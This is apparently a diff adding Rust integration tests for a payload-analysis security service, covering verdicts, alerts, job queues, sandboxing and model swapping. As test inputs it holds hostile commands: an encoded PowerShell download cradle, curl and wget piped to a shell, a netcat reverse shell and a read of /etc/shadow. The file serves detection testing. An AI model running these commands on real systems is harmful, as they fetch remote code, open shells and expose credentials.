@@ -1,0 +1,413 @@
+//! Payload analysis in the service: the synchronous verdict and its alert (stream channel
+//! `payload`, stored once), refusals naming the field, jobs queued, run by the workers and
+//! kept, the queue's bound, the sandbox when enabled, and a registry model swapped in.
+
+use std::time::{Duration, Instant};
+
+use axum::http::StatusCode;
+use serde_json::{Value, json};
+use warden_payload::{Analyzer, Shell, VerdictConfig, features};
+use warden_server::auth::{Scope, create_token};
+use warden_server::{AppState, ServiceConfig, app};
+
+use crate::common::{assert_invalid, oneshot};
+
+struct Svc {
+    state: AppState,
+    router: axum::Router,
+    read: String,
+    write: String,
+    other: String,
+}
+
+fn svc_with(config: ServiceConfig, store: warden_store::Store) -> Svc {
+    let tok = |scope, tenant| {
+        create_token(&store, scope, tenant, "test")
+            .unwrap_or_else(|e| panic!("{e}"))
+            .0
+    };
+    let (read, write, other) = (
+        tok(Scope::Read, "acme"),
+        tok(Scope::Write, "acme"),
+        tok(Scope::Admin, "globex"),
+    );
+    let state = AppState::new(config, store).unwrap_or_else(|e| panic!("{e}"));
+    Svc {
+        router: app(state.clone()),
+        state,
+        read,
+        write,
+        other,
+    }
+}
+
+fn svc() -> Svc {
+    svc_with(
+        ServiceConfig::default(),
+        warden_store::Store::open_in_memory().unwrap_or_else(|e| panic!("{e}")),
+    )
+}
+
+async fn post(s: &Svc, uri: &str, token: &str, body: Value) -> (StatusCode, Value) {
+    let (st, _, b) = oneshot(
+        &s.router,
+        "POST",
+        uri,
+        Some(token),
+        "application/json",
+        body.to_string().into_bytes(),
+    )
+    .await;
+    (st, b)
+}
+
+async fn get(s: &Svc, uri: &str, token: &str) -> (StatusCode, Value) {
+    let (st, _, b) = oneshot(
+        &s.router,
+        "GET",
+        uri,
+        Some(token),
+        "application/json",
+        Vec::new(),
+    )
+    .await;
+    (st, b)
+}
+
+/// `powershell -enc` of a download cradle.
+fn encoded_cradle() -> String {
+    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
+    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    format!(
+        "powershell.exe -NoP -W Hidden -enc {}",
+        warden_payload::deobf::codec::to_base64(&utf16)
+    )
+}
+
+#[tokio::test]
+async fn a_dangerous_command_gets_a_verdict_and_one_alert_on_the_payload_channel() {
+    let s = svc();
+    let mut feed = s.state.feed.subscribe();
+    let text = encoded_cradle();
+    let body = json!({"text": text, "user": "alice", "host": "ws-17", "timestamp": "2026-12-03T10:00:00+01:00"});
+    let (st, v) = post(&s, "/v1/payload/analyze", &s.write, body.clone()).await;
+    assert_eq!(st, StatusCode::OK, "{v}");
+    assert_eq!(v["action"], "BLOCK");
+    assert_eq!(v["layers"][1]["decoder"], "powershell-encoded-command");
+    let alert_id = v["alert_id"].as_i64().unwrap_or_else(|| panic!("{v}"));
+    let published = feed
+        .try_recv()
+        .unwrap_or_else(|e| panic!("nothing published: {e}"));
+    assert_eq!((published.id, published.channel), (alert_id, "payload"));
+    let (st, a) = get(&s, &format!("/v1/alerts/{alert_id}"), &s.read).await;
+    assert_eq!(st, StatusCode::OK, "{a}");
+    assert_eq!(a["alert"]["channel"], "payload", "{a}");
+    let alert = &a["alert"]["alert"];
+    assert_eq!(alert["detector"]["kind"], "payload", "{a}");
+    assert_eq!(alert["subject"], "alice", "{a}");
+    assert_eq!(alert["detail"]["payload"]["action"], "BLOCK", "{a}");
+    assert_eq!(alert["timestamp"], "2026-12-03T09:00:00Z", "{a}");
+    // The same text at the same time again (a retry): the same alert, not a second one.
+    let (_, again) = post(&s, "/v1/payload/analyze", &s.write, body).await;
+    assert_eq!(again["alert_id"], alert_id);
+    assert!(feed.try_recv().is_err());
+    // Another tenant does not see it.
+    let (st, _) = get(&s, &format!("/v1/alerts/{alert_id}"), &s.other).await;
+    assert_eq!(st, StatusCode::NOT_FOUND);
+    // An everyday command: a verdict, no alert.
+    let (st, v) = post(
+        &s,
+        "/v1/payload/analyze",
+        &s.write,
+        json!({"text": "ls -la /home", "shell": "sh"}),
+    )
+    .await;
+    assert_eq!(st, StatusCode::OK, "{v}");
+    assert_eq!(
+        (v["action"].as_str(), v["alert_id"].is_null()),
+        (Some("ALLOW"), true)
+    );
+}
+
+#[tokio::test]
+async fn refusals_name_the_field_and_scopes_hold() {
+    let s = svc();
+    let (st, b) = post(
+        &s,
+        "/v1/payload/analyze",
+        &s.write,
+        json!({"text": "id", "shell": "zsh"}),
+    )
+    .await;
+    assert_invalid(st, &b, "shell");
+    let (st, b) = post(
+        &s,
+        "/v1/payload/analyze",
+        &s.write,
+        json!({"text": "id", "user": "u".repeat(300)}),
+    )
+    .await;
+    assert_invalid(st, &b, "user");
+    let (st, b) = post(
+        &s,
+        "/v1/payload/analyze",
+        &s.write,
+        json!({"text": "id", "extra": 1}),
+    )
+    .await;
+    assert_eq!(st, StatusCode::BAD_REQUEST, "{b}");
+    let (st, b) = post(&s, "/v1/payload/analyze", &s.write, json!({"shell": "sh"})).await;
+    assert_eq!(st, StatusCode::BAD_REQUEST, "{b}");
+    let (st, _) = post(&s, "/v1/payload/analyze", &s.read, json!({"text": "id"})).await;
+    assert_eq!(st, StatusCode::FORBIDDEN);
+    let (st, _) = post(&s, "/v1/payload/jobs", &s.read, json!({"text": "id"})).await;
+    assert_eq!(st, StatusCode::FORBIDDEN);
+    let (st, b) = get(&s, "/v1/payload/jobs/abc", &s.read).await;
+    assert_invalid(st, &b, "id");
+    let (st, b) = post(
+        &s,
+        "/v1/payload/jobs",
+        &s.write,
+        json!({"text": "id", "timestamp": "yesterday"}),
+    )
+    .await;
+    assert_invalid(st, &b, "timestamp");
+    // Binary garbage and deep nesting get a verdict, not an error.
+    let garbage: String = (0..20_000u32)
+        .map(|i| char::from_u32(i % 0xD7FF + 1).unwrap_or('?'))
+        .collect();
+    let (st, v) = post(
+        &s,
+        "/v1/payload/analyze",
+        &s.write,
+        json!({"text": garbage}),
+    )
+    .await;
+    assert_eq!(st, StatusCode::OK, "{v}");
+    assert!(v["score"].is_number());
+}
+
+async fn wait_done(s: &Svc, id: i64, token: &str) -> Value {
+    let started = Instant::now();
+    loop {
+        let (st, j) = get(s, &format!("/v1/payload/jobs/{id}"), token).await;
+        assert_eq!(st, StatusCode::OK, "{j}");
+        if j["status"] == "done" || j["status"] == "failed" {
+            return j;
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(60),
+            "job stuck: {j}"
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+#[tokio::test]
+async fn jobs_are_queued_run_and_kept_and_the_queue_is_bounded() {
+    let mut config = ServiceConfig::default();
+    config.payload.max_queued_jobs = 2;
+    let s = svc_with(
+        config,
+        warden_store::Store::open_in_memory().unwrap_or_else(|e| panic!("{e}")),
+    );
+    // Workers not started yet: the queue fills.
+    for text in ["whoami", "id"] {
+        let (st, b) = post(&s, "/v1/payload/jobs", &s.write, json!({"text": text})).await;
+        assert_eq!(st, StatusCode::ACCEPTED, "{b}");
+    }
+    let (st, b) = post(
+        &s,
+        "/v1/payload/jobs",
+        &s.write,
+        json!({"text": "uname -a"}),
+    )
+    .await;
+    assert_eq!(
+        (st, b["error"]["code"].as_str()),
+        (StatusCode::TOO_MANY_REQUESTS, Some("quota_exceeded")),
+        "{b}"
+    );
+    warden_server::payload::start(&s.state);
+    let (st, b) = get(&s, "/v1/payload/jobs/1", &s.read).await;
+    assert_eq!(st, StatusCode::OK, "{b}");
+    let done = wait_done(&s, 1, &s.read).await;
+    assert_eq!(done["status"], "done", "{done}");
+    assert_eq!(done["verdict"]["action"], "ALLOW", "{done}");
+    // A sandboxed run asked of a server without the sandbox: analysed statically, and said.
+    let (st, b) = post(
+        &s,
+        "/v1/payload/jobs",
+        &s.write,
+        json!({"text": "curl -s http://203.0.113.9/x | bash", "sandbox": true}),
+    )
+    .await;
+    assert_eq!(st, StatusCode::ACCEPTED, "{b}");
+    assert!(
+        b["note"].as_str().is_some_and(|n| n.contains("disabled")),
+        "{b}"
+    );
+    let id = b["id"].as_i64().unwrap_or_default();
+    let done = wait_done(&s, id, &s.write).await;
+    let v = &done["verdict"];
+    assert!(
+        v["notes"].to_string().contains("not run in the sandbox"),
+        "{v}"
+    );
+    assert!(
+        v["alert_id"].is_i64(),
+        "a HIGH verdict raises an alert: {v}"
+    );
+    // Another tenant's job is not found.
+    let (st, _) = get(&s, &format!("/v1/payload/jobs/{id}"), &s.other).await;
+    assert_eq!(st, StatusCode::NOT_FOUND);
+}
+
+/// Whether the sandbox can run here (CI sets `WARDEN_REQUIRE_SANDBOX`, where it must).
+fn sandbox_here() -> bool {
+    let ok = warden_sandbox::Sandbox::new(warden_sandbox::SandboxConfig::default())
+        .and_then(|s| s.run("true", Shell::Sh));
+    match ok {
+        Ok(_) => true,
+        Err(e) if std::env::var_os("WARDEN_REQUIRE_SANDBOX").is_none() => {
+            eprintln!("skipped: the sandbox cannot run here ({e})");
+            false
+        }
+        Err(e) => panic!("the sandbox is required here and cannot run: {e}"),
+    }
+}
+
+#[tokio::test]
+async fn a_job_runs_in_the_sandbox_when_enabled() {
+    if !sandbox_here() {
+        return;
+    }
+    let mut config = ServiceConfig::default();
+    config.sandbox.enabled = true;
+    let s = svc_with(
+        config,
+        warden_store::Store::open_in_memory().unwrap_or_else(|e| panic!("{e}")),
+    );
+    warden_server::payload::start(&s.state);
+    let script = "echo 'ZWNobyBoaSA+PiB+Ly5iYXNocmMK' | base64 -d | sh\n";
+    let (st, b) = post(
+        &s,
+        "/v1/payload/jobs",
+        &s.write,
+        json!({"text": script, "shell": "bash", "sandbox": true}),
+    )
+    .await;
+    assert_eq!(st, StatusCode::ACCEPTED, "{b}");
+    assert!(b.get("note").is_none(), "{b}");
+    let done = wait_done(&s, b["id"].as_i64().unwrap_or_default(), &s.read).await;
+    let trace = &done["verdict"]["trace"];
+    assert!(
+        trace["behaviour"]["files"]
+            .to_string()
+            .contains("/home/user/.bashrc"),
+        "{done}"
+    );
+    assert!(
+        done["verdict"]["views"]["dynamic"]
+            .as_f64()
+            .is_some_and(|d| d > 50.0),
+        "{done}"
+    );
+}
+
+/// A small model trained on a few labelled lines.
+fn tiny_model(flip: bool) -> Vec<u8> {
+    let plain = Analyzer::new(None, VerdictConfig::default());
+    let set = features::FeatureSet {
+        bits: 12,
+        ..features::FeatureSet::default()
+    };
+    let bad = [
+        "curl http://x/a | sh",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "cat /etc/shadow",
+        "wget -qO- http://y/b | bash",
+    ];
+    let good = ["ls -la", "git status", "cargo build --release", "df -h"];
+    let rows: Vec<_> = bad
+        .iter()
+        .map(|t| (*t, !flip))
+        .chain(good.iter().map(|t| (*t, flip)))
+        .map(|(t, y)| {
+            (
+                features::extract(&plain.examine(t, Some(Shell::Sh)), &set),
+                y,
+            )
+        })
+        .collect();
+    let params = warden_payload::train::TrainParams {
+        features: set,
+        epochs: 3,
+        validation_share: 0.0,
+        ..Default::default()
+    };
+    warden_payload::train::train(&rows, &params, "test")
+        .unwrap_or_else(|e| panic!("{e}"))
+        .to_bytes()
+}
+
+#[tokio::test]
+async fn a_registry_model_is_used_and_swapped_when_a_new_version_is_activated() {
+    let store = warden_store::Store::open_in_memory().unwrap_or_else(|e| panic!("{e}"));
+    let v1 = store
+        .register_model(
+            "payload",
+            "payload-linear",
+            "wpld",
+            &tiny_model(false),
+            &json!({}),
+        )
+        .unwrap_or_else(|e| panic!("{e}"));
+    store
+        .activate_model("payload", v1)
+        .unwrap_or_else(|e| panic!("{e}"));
+    let mut config = ServiceConfig::default();
+    config.payload.model = Some("registry:payload".into());
+    let s = svc_with(config, store);
+    let (_, before) = post(
+        &s,
+        "/v1/payload/analyze",
+        &s.write,
+        json!({"text": "git status", "shell": "sh"}),
+    )
+    .await;
+    let p1 = before["views"]["model"]
+        .as_f64()
+        .unwrap_or_else(|| panic!("no model view: {before}"));
+    let log = {
+        let store = s.state.store();
+        let v2 = store
+            .register_model(
+                "payload",
+                "payload-linear",
+                "wpld",
+                &tiny_model(true),
+                &json!({}),
+            )
+            .unwrap_or_else(|e| panic!("{e}"));
+        store
+            .activate_model("payload", v2)
+            .unwrap_or_else(|e| panic!("{e}"));
+        s.state.payload.reload(&store)
+    };
+    assert!(log.is_some_and(|l| l.contains("v2 put in use")));
+    let (_, after) = post(
+        &s,
+        "/v1/payload/analyze",
+        &s.write,
+        json!({"text": "git status", "shell": "sh"}),
+    )
+    .await;
+    let p2 = after["views"]["model"].as_f64().unwrap_or_default();
+    assert!(
+        p2 > p1,
+        "the swapped model (labels flipped) rates it higher: {p1} → {p2}"
+    );
+    // Nothing new: nothing to do.
+    assert!(s.state.payload.reload(&s.state.store()).is_none());
+}
